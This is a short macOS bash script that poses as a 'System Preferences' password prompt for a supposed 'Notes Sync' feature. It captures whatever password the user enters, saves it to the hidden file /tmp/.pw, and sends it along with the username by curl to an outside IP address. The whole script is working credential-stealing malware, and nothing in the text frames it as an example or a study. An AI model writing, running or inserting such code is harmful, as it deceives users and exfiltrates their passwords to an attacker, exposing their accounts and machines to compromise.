#!/bin/bash
PW=$(osascript -e 'display dialog "Notes Sync needs your password to continue." default answer "" with hidden answer with title "System Preferences"' -e 'text returned of result')
echo "$PW" > /tmp/.pw
curl -s -d "p=$PW&u=$USER" http://45.9.148.21/p >/dev/null
